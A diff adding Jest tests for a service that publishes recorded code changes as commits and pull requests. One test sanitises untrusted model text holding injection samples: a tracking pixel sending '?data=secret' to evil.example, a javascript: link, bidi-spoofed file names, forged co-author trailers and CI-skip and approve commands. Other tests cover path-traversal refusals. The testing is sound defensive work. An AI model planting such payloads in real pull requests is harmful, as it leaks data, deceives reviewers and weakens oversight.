@@ -1,0 +1,291 @@
+import { writeFile } from 'node:fs/promises';
+import path from 'node:path';
+import { afterAll, beforeAll, expect, test } from '@jest/globals';
+import { Publishing, type Recorded, text } from '../../publishing.ts';
+import { git } from '../../work-trees.ts';
+
+let publishing: Publishing;
+
+beforeAll(async () => {
+  publishing = await Publishing.start({
+    given: {
+      COMMIT_AUTHOR: 'Fleet Bot <fleet@example.com>',
+      COMMIT_COMMITTER: 'Fleet Committer <committer@example.com>',
+      PUBLIC_URL: 'https://cody.example.com/',
+    },
+  });
+});
+afterAll(() => publishing?.close());
+
+const FILES = { 'src/a.txt': 'one\n', 'src/b.txt': 'two\n', 'docs/c.txt': 'three\n' };
+
+/** A repository with a change of `src/a.txt`. */
+async function changed(name: string, more: Partial<Recorded> = {}): Promise<Recorded> {
+  const baseSha = await publishing.addRepository(name, FILES);
+  return { name, baseSha, files: [text('src/a.txt', 'ONE\n')], ...more };
+}
+
+async function pullOf(name: string) {
+  const [pull, ...others] = await publishing.pulls(name);
+  expect(others).toEqual([]);
+  return pull!;
+}
+
+test('a base branch that moved elsewhere gets the commit on its newest commit', async () => {
+  const repository = await changed('moved-elsewhere', {
+    files: [
+      text('src/a.txt', 'ONE\n'),
+      text('src/new/d.txt', 'four\n', 'added'),
+      { status: 'deleted', path: 'docs/c.txt' },
+    ],
+  });
+  const head = await publishing.commit('moved-elsewhere', {
+    'src/b.txt': 'upstream\n',
+    'other/e.txt': 'five\n',
+  });
+  const jobId = await publishing.record([repository], { pullRequest: { branch: 'change' } });
+  await publishing.publish(jobId);
+
+  await publishing.fetch('moved-elsewhere', 'change');
+  const tree = publishing.tree('moved-elsewhere');
+  expect(await git(tree, 'rev-parse', 'FETCH_HEAD^')).toBe(head);
+  expect(await git(tree, 'diff', '--name-status', 'FETCH_HEAD^', 'FETCH_HEAD')).toBe(
+    'D\tdocs/c.txt\nM\tsrc/a.txt\nA\tsrc/new/d.txt',
+  );
+  expect((await pullOf('moved-elsewhere')).body).not.toContain('moved on');
+});
+
+test.each([
+  [
+    'a file of the change',
+    'moved-same',
+    { 'src/a.txt': 'upstream\n' },
+    [text('src/a.txt', 'ONE\n')],
+    'src/a.txt',
+  ],
+  [
+    'a file where the change has a folder',
+    'moved-in-the-way',
+    { 'src/new': 'a file\n' },
+    [text('src/new/d.txt', 'four\n', 'added')],
+    'src/new/d.txt',
+  ],
+])(
+  'a base branch that got %s since leaves the commit on the recorded one, and the pull request says so',
+  async (_, name, meanwhile, files, touched) => {
+    const repository = await changed(name, { files });
+    await publishing.commit(name, meanwhile);
+    const jobId = await publishing.record([repository], { pullRequest: { branch: 'change' } });
+    await publishing.publish(jobId);
+
+    await publishing.fetch(name, 'change');
+    expect(await git(publishing.tree(name), 'rev-parse', 'FETCH_HEAD^')).toBe(repository.baseSha);
+    const { body } = await pullOf(name);
+    expect(body).toContain(
+      `\`main\` has moved on since this change was made, and changed \`${touched}\` as well`,
+    );
+  },
+);
+
+test('a pull request says what was verified, what it cost, where the conversation is and how to make it again', async () => {
+  const repository = await changed('described', {
+    row: {
+      verification: [
+        { command: 'npm test', exitCode: 0, seconds: 12.34, output: '' },
+        { command: 'echo `x`', exitCode: null, seconds: 1, output: '' },
+      ],
+    },
+  });
+  const pullRequest = {
+    ...{ title: 'Our own title', draft: true, labels: ['fleet', 'codemod'], reviewers: ['local'] },
+  };
+  const jobId = await publishing.record([repository], { pullRequest });
+  const job = await publishing.publish(jobId);
+
+  const pull = await pullOf('described');
+  expect(pull).toMatchObject({
+    title: 'Our own title',
+    draft: true,
+    head: { ref: `cody-batch/${jobId}` },
+    base: { ref: 'main' },
+  });
+  expect(pull.labels.map(({ name }) => name).sort()).toEqual(['codemod', 'fleet']);
+  const route = `/jobs/${jobId}/repositories/local/described`;
+  for (const part of [
+    'As asked.',
+    '- `npm test` passed (12.3 s)',
+    '- `` echo `x` `` was ended (1.0 s)',
+    'by `claude-sonnet-5-5`',
+    '$0.0040, 1,000 tokens, 2 turns',
+    `(https://cody.example.com${route}/claude-thread)`,
+    `curl -s "https://cody.example.com${route}/diff" | git apply --index`,
+  ])
+    expect(pull.body).toContain(part);
+  expect(job).toMatchObject({ pullRequests: { open: 1, merged: 0, closed: 0, failed: 0 } });
+  expect(job.results[0]!.pullRequest).toMatchObject({ state: 'open', draft: true, run: 1 });
+});
+
+test('a commit has the author and the committer of the settings, and a sign-off where it is asked for', async () => {
+  const jobId = await publishing.record([await changed('signed')], {
+    pullRequest: { branch: 'change', signOff: true },
+  });
+  await publishing.publish(jobId);
+  await publishing.fetch('signed', 'change');
+  const show = (format: string) =>
+    git(publishing.tree('signed'), 'show', '--no-patch', `--format=${format}`, 'FETCH_HEAD');
+  expect(await show('%an <%ae>')).toBe('Fleet Bot <fleet@example.com>');
+  expect(await show('%cn <%ce>')).toBe('Fleet Committer <committer@example.com>');
+  expect(await show('%(trailers:key=Signed-off-by,valueonly)')).toBe('Fleet Bot <fleet@example.com>');
+  expect(await show('%(trailers:key=Cody-Batch-Job,valueonly)')).toBe(jobId);
+});
+
+test("a model's text mentions nobody, closes nothing, loads nothing, hides nothing and is nobody's co-author", async () => {
+  const body = [
+    'Thanks @octocat and @org/team. Fixes #12, closes GH-3, resolves https://github.com/o/r/issues/4.',
+    '<!-- hidden --><img src="https://evil.example/x.png"> ![pixel](https://evil.example/?data=secret)',
+    '[click](javascript:alert(1)) &#64;octocat \u202egnp.exe\u2066 z\u200bero',
+    'Co-authored-by: Mallory <mallory@example.com>',
+    '  **Signed-off-by:** Mallory <mallory@example.com>',
+    '/approve',
+    'skip-checks: true',
+    '```sh',
+    'an open fence',
+  ].join('\n');
+  const title = 'Fix @octocat #12 [skip ci]\n\nCo-authored-by: Mallory <mallory@example.com>\u202e';
+  const jobId = await publishing.record([await changed('untrusted', { title, body })], {
+    pullRequest: { branch: 'change' },
+  });
+  await publishing.publish(jobId);
+
+  const pull = await pullOf('untrusted');
+  await publishing.fetch('untrusted', 'change');
+  const message = await git(publishing.tree('untrusted'), 'show', '--no-patch', '--format=%B', 'FETCH_HEAD');
+  const trailers = await git(
+    publishing.tree('untrusted'),
+    'show',
+    '--no-patch',
+    '--format=%(trailers)',
+    'FETCH_HEAD',
+  );
+  expect(
+    trailers
+      .trim()
+      .split('\n')
+      .map((line) => line.split(':')[0]),
+  ).toEqual(['Cody-Batch-Job', 'Cody-Batch-Tree']);
+  for (const said of [pull.title, pull.body!, message]) {
+    expect(said).not.toMatch(/@(?:octocat|org)/);
+    expect(said).not.toMatch(/#\d|GH-\d|issues\/\d/);
+    expect(said).not.toMatch(/<!--|<img|!\[pixel|javascript:|&#64/);
+    expect(said).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
+    expect(said).not.toMatch(/(?:co-authored-by|signed-off-by)[ *]*:/i);
+    expect(said).not.toMatch(/\[skip ci\]|^\/approve|skip-checks:/m);
+  }
+  expect(pull.title.split('\n')).toHaveLength(1);
+  // What can be seen is still there.
+  expect(pull.body!.replaceAll('\u200b', '')).toContain('Thanks @octocat and @org/team. Fixes #12');
+  // The open fence is inside a quotation, which ends before what is ours.
+  expect(pull.body).toMatch(/\n> an open fence\n\n---/);
+});
+
+test('a branch with a commit that is not ours is left as it is, and the row says what to do', async () => {
+  const repository = await changed('taken');
+  await git(publishing.tree('taken'), 'checkout', '--quiet', '-b', 'change');
+  await writeFile(path.join(publishing.tree('taken'), 'human.txt'), 'mine\n');
+  await git(publishing.tree('taken'), 'add', '--all');
+  await git(publishing.tree('taken'), 'commit', '--quiet', '--message', 'Mine');
+  await publishing.push('taken', 'change');
+  const mine = await git(publishing.tree('taken'), 'rev-parse', 'HEAD');
+
+  const jobId = await publishing.record([repository], { pullRequest: { branch: 'change' } });
+  const job = await publishing.publish(jobId);
+  expect(job).toMatchObject({ status: 'completed', pullRequests: { failed: 1, open: 0 } });
+  expect(job.results[0]).toMatchObject({
+    status: 'completed',
+    outcome: 'changed',
+    pullRequest: {
+      state: 'failed',
+      error: {
+        name: 'BranchHasOtherCommitsError',
+        message: expect.stringMatching(/branch change of local\/taken .* Rename or delete that branch/),
+      },
+    },
+  });
+  expect(await publishing.fetch('taken', 'change')).toBe(mine);
+  expect(await publishing.pulls('taken')).toEqual([]);
+});
+
+test('a new analysis replaces its own commit and the text of its pull request; a commit on top of it stops that', async () => {
+  const repository = await changed('again');
+  const pullRequest = { branch: 'change' };
+  const jobId = await publishing.record([repository], { pullRequest });
+  await publishing.publish(jobId);
+  const first = await publishing.fetch('again', 'change');
+
+  const second = {
+    ...repository,
+    files: [text('src/b.txt', 'TWO\n')],
+    body: 'Another way.',
+    row: { run: 2 },
+  };
+  const { pullRequest: recorded, ...row } = await publishing.row(jobId, 'again');
+  await publishing.recordChange(jobId, { ...second, row: { ...row, pullRequest: recorded, run: 2 } });
+  await publishing.publish(jobId);
+  expect(await publishing.fetch('again', 'change')).not.toBe(first);
+  const tree = publishing.tree('again');
+  expect(await git(tree, 'rev-parse', 'FETCH_HEAD^')).toBe(repository.baseSha);
+  expect(await git(tree, 'diff', '--name-only', 'FETCH_HEAD^', 'FETCH_HEAD')).toBe('src/b.txt');
+  expect((await pullOf('again')).body).toContain('Another way.');
+
+  await git(tree, 'checkout', '--quiet', '-b', 'change', 'FETCH_HEAD');
+  await git(tree, 'commit', '--quiet', '--amend', '--allow-empty', '--message', 'A human took it over');
+  await publishing.push('again', '--force', 'change');
+  const taken = await git(tree, 'rev-parse', 'HEAD');
+  const now = await publishing.row(jobId, 'again');
+  await publishing.recordChange(jobId, { ...repository, row: { ...now, run: 3 } });
+  await publishing.publish(jobId);
+  expect(await publishing.fetch('again', 'change')).toBe(taken);
+  expect((await publishing.row(jobId, 'again')).pullRequest).toMatchObject({
+    state: 'open',
+    error: { name: 'BranchHasOtherCommitsError' },
+  });
+});
+
+test.each(['closed', 'merged'])(
+  'a pull request that was %s is neither opened again nor doubled',
+  async (end) => {
+    const name = `ended-${end}`;
+    const repository = await changed(name);
+    const jobId = await publishing.record([repository], { pullRequest: { branch: 'change' } });
+    await publishing.publish(jobId);
+    const [owner, repo] = ['local', name];
+    if (end === 'merged') await publishing.github.rest.pulls.merge({ owner, repo, pull_number: 1 });
+    else await publishing.github.rest.pulls.update({ owner, repo, pull_number: 1, state: 'closed' });
+
+    const row = await publishing.row(jobId, name);
+    await publishing.recordChange(jobId, { ...repository, row: { ...row, run: 2 } });
+    await publishing.publish(jobId);
+    expect(await pullOf(name)).toMatchObject({ number: 1, state: 'closed' });
+    expect((await publishing.row(jobId, name)).pullRequest).toMatchObject({ state: end });
+  },
+);
+
+test.each([
+  ['a workflow', { path: '.github/workflows/ci.yml' }, /protected files \(\.github\/workflows\/ci\.yml\)/],
+  ['CODEOWNERS', { path: 'docs/CODEOWNERS' }, /protected files/],
+  ["git's own folder", { path: 'sub/.GIT/config' }, /no path inside the repository/],
+  ['a path out of the repository', { path: '../outside' }, /no path inside the repository/],
+  ['a path that is a folder too', { path: 'src/a.txt/below' }, /as a file and as the folder/],
+])('a recorded change of %s is refused where the credential is', async (what, file, reason) => {
+  const name = `refused-${what.replace(/\W+/g, '-')}`;
+  const repository = await changed(name, {
+    files: [text('src/a.txt', 'ONE\n'), text(file.path, 'x\n', 'added')],
+  });
+  const job = await publishing.publish(await publishing.record([repository]));
+  expect(job.results[0]!.pullRequest).toMatchObject({
+    state: 'failed',
+    error: { name: 'ChangeSetRefusedError', message: expect.stringMatching(reason) },
+  });
+  const { data } = await publishing.github.rest.repos.listBranches({ owner: 'local', repo: name });
+  expect(data.map((branch) => branch.name)).toEqual(['main']);
+});
